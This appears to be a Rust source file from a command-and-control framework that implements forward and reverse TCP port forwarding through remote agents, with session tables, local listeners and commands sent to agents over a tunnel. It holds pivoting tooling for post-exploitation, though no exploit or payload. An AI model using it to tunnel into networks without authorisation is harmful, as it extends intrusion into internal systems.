//! TCP port forwarding over agent proxy streams.
//!
//! Forward mode: the server listens on a local port; every accepted
//! connection asks the agent (over the message tunnel) to open a proxy stream
//! with a fresh token and dial the target on its side. Reverse mode: the
//! agent listens remotely and opens a stream per accepted connection; the
//! server dials the target.

use std::sync::Arc;

use dashmap::DashMap;
use rand::Rng;
use tokio::net::{TcpListener, TcpStream};
use tokio_util::sync::CancellationToken;

use crate::agents::C2_CMD_PORT_FWD;
use crate::crypto::random_hex;
use crate::net::{relay_socket, StreamHandler, PROXY_BUF_SIZE};
use crate::server::Cc;
use crate::tunnel::send_cmd;
use crate::{C2Error, Result};

pub struct PortFwdSession {
    pub id: String,
    pub description: String,
    pub lport: u16,
    /// Target `host:port` (or unix socket path); on the agent's network in
    /// forward mode, on ours in reverse mode
    pub to: String,
    pub agent_tag: String,
    pub reverse: bool,
    /// Coalesce agent-bound writes (SOCKS traffic)
    pub cork: bool,
    pub cancel: CancellationToken,
}

#[derive(Default)]
pub struct PortFwdTable {
    map: DashMap<String, Arc<PortFwdSession>>,
}

impl PortFwdTable {
    pub fn new() -> Self {
        Self::default()
    }

    /// At most one active session per (agent, local port).
    fn insert(&self, session: Arc<PortFwdSession>) -> Result<()> {
        let clash = self.map.iter().any(|e| {
            e.value().agent_tag == session.agent_tag && e.value().lport == session.lport
        });
        if clash {
            return Err(C2Error::PortInUse(session.lport));
        }
        self.map.insert(session.id.clone(), session);
        Ok(())
    }

    pub fn remove(&self, id: &str) {
        if let Some((_, session)) = self.map.remove(id) {
            session.cancel.cancel();
        }
    }

    pub fn get(&self, id: &str) -> Option<Arc<PortFwdSession>> {
        self.map.get(id).map(|e| e.value().clone())
    }

    pub fn list(&self) -> Vec<Arc<PortFwdSession>> {
        self.map.iter().map(|e| e.value().clone()).collect()
    }

    /// Existing session forwarding to `to` on a given agent, if any
    pub fn find_by_target(&self, agent_tag: &str, to: &str) -> Option<Arc<PortFwdSession>> {
        self.map
            .iter()
            .find(|e| e.value().agent_tag == agent_tag && e.value().to == to)
            .map(|e| e.value().clone())
    }

    pub fn is_lport_taken(&self, agent_tag: &str, lport: u16) -> bool {
        self.map
            .iter()
            .any(|e| e.value().agent_tag == agent_tag && e.value().lport == lport)
    }
}

/// Random high port for local listeners and agent-side shells
pub fn random_port() -> u16 {
    rand::thread_rng().gen_range(2048..65535)
}

/// Start a forward port mapping: local `lport` (0 picks a random free port)
/// to `to` on the agent's side. Returns once the listener is bound; the
/// accept loop runs until the session or the agent context is cancelled.
pub async fn run_port_fwd(
    cc: &Cc,
    agent_tag: &str,
    to: &str,
    lport: u16,
    description: &str,
) -> Result<Arc<PortFwdSession>> {
    run_port_fwd_inner(cc, agent_tag, to, lport, description, false).await
}

/// [`run_port_fwd`] with the TCP-cork adapter, for SOCKS traffic.
pub async fn run_port_fwd_corked(
    cc: &Cc,
    agent_tag: &str,
    to: &str,
    lport: u16,
    description: &str,
) -> Result<Arc<PortFwdSession>> {
    run_port_fwd_inner(cc, agent_tag, to, lport, description, true).await
}

async fn run_port_fwd_inner(
    cc: &Cc,
    agent_tag: &str,
    to: &str,
    lport: u16,
    description: &str,
    cork: bool,
) -> Result<Arc<PortFwdSession>> {
    let agent_cancel = cc
        .registry
        .control_token(agent_tag)
        .ok_or_else(|| C2Error::AgentUnknown(agent_tag.to_string()))?;

    // bind first so the session records the real port
    let (listener, lport) = bind_local(lport).await?;

    let session = Arc::new(PortFwdSession {
        id: uuid::Uuid::new_v4().to_string(),
        description: description.to_string(),
        lport,
        to: to.to_string(),
        agent_tag: agent_tag.to_string(),
        reverse: false,
        cork,
        cancel: CancellationToken::new(),
    });
    cc.portfwds.insert(session.clone())?;

    let cc = cc.clone();
    let accept_session = session.clone();
    tokio::spawn(async move {
        let session = accept_session;
        loop {
            tokio::select! {
                accepted = listener.accept() => match accepted {
                    Ok((socket, peer)) => {
                        tracing::debug!("port fwd {}: accepted {peer}", session.lport);
                        if let Err(e) = bridge_connection(&cc, &session, socket).await {
                            tracing::error!("port fwd {}: {e}", session.lport);
                        }
                    }
                    Err(e) => {
                        tracing::warn!("port fwd {}: accept: {e}", session.lport);
                        break;
                    }
                },
                _ = session.cancel.cancelled() => break,
                _ = agent_cancel.cancelled() => break,
            }
        }
        cc.portfwds.remove(&session.id);
        tracing::info!(
            "port fwd {} -> {} ({}) closed",
            session.lport,
            session.to,
            session.agent_tag
        );
    });

    Ok(session)
}

/// Register a reverse mapping: the agent listens on the port in `to` and
/// opens `<session>-<nonce>` streams; we dial `target` for each.
pub async fn run_reverse_port_fwd(
    cc: &Cc,
    agent_tag: &str,
    remote_listen: &str,
    target: &str,
    description: &str,
) -> Result<Arc<PortFwdSession>> {
    let target_port: u16 = target
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .unwrap_or(0);

    let session = Arc::new(PortFwdSession {
        id: uuid::Uuid::new_v4().to_string(),
        description: description.to_string(),
        lport: target_port,
        to: target.to_string(),
        agent_tag: agent_tag.to_string(),
        reverse: true,
        cork: false,
        cancel: CancellationToken::new(),
    });
    cc.portfwds.insert(session.clone())?;

    let cmd = format!(
        "{C2_CMD_PORT_FWD} --to {remote_listen} --token {} --operation reverse",
        session.id
    );
    if let Err(e) = send_cmd(cc, &cmd, "", agent_tag).await {
        cc.portfwds.remove(&session.id);
        return Err(e);
    }
    Ok(session)
}

/// Dispatcher hook: a proxy stream arrived whose token matches no registered
/// handle. If it belongs to a reverse session, dial the target and relay.
pub async fn accept_reverse_stream(cc: &Cc, token: &str) -> Option<Arc<StreamHandler>> {
    let session_id = token.rsplit_once('-').map(|(p, _)| p).unwrap_or(token);
    let session = cc.portfwds.get(session_id).filter(|s| s.reverse)?;

    let socket = match TcpStream::connect(&session.to).await {
        Ok(s) => s,
        Err(e) => {
            tracing::error!("reverse fwd dial {}: {e}", session.to);
            return None;
        }
    };

    let handle = StreamHandler::new(token.to_string(), PROXY_BUF_SIZE);
    cc.streams.register_proxy(handle.clone());

    let relay_handle = handle.clone();
    let cancel = session.cancel.child_token();
    let cc = cc.clone();
    let token = token.to_string();
    tokio::spawn(async move {
        relay_socket(relay_handle, socket, cancel).await;
        cc.streams.remove_proxy(&token);
    });
    Some(handle)
}

async fn bind_local(lport: u16) -> Result<(TcpListener, u16)> {
    if lport != 0 {
        let listener = TcpListener::bind(("127.0.0.1", lport))
            .await
            .map_err(|_| C2Error::PortInUse(lport))?;
        return Ok((listener, lport));
    }
    // randomly selected local port, retrying collisions
    for _ in 0..16 {
        let candidate = random_port();
        if let Ok(listener) = TcpListener::bind(("127.0.0.1", candidate)).await {
            return Ok((listener, candidate));
        }
    }
    Err(C2Error::Config("no free local port found".to_string()))
}

/// One accepted local connection: mint a token, ask the agent to open the
/// peer stream, and relay until either side closes.
async fn bridge_connection(cc: &Cc, session: &Arc<PortFwdSession>, socket: TcpStream) -> Result<()> {
    let token = format!("{}-{}", session.id, random_hex(8));
    let handle = StreamHandler::new(token.clone(), PROXY_BUF_SIZE);
    cc.streams.register_proxy(handle.clone());

    let cmd = format!(
        "{C2_CMD_PORT_FWD} --to {} --token {token} --operation start",
        session.to
    );
    if let Err(e) = send_cmd(cc, &cmd, "", &session.agent_tag).await {
        cc.streams.remove_proxy(&token);
        return Err(e);
    }

    let cancel = session.cancel.child_token();
    let cork = session.cork;
    let cc = cc.clone();
    tokio::spawn(async move {
        crate::net::relay_socket_opts(handle, socket, cancel, cork).await;
        cc.streams.remove_proxy(&token);
    });
    Ok(())
}
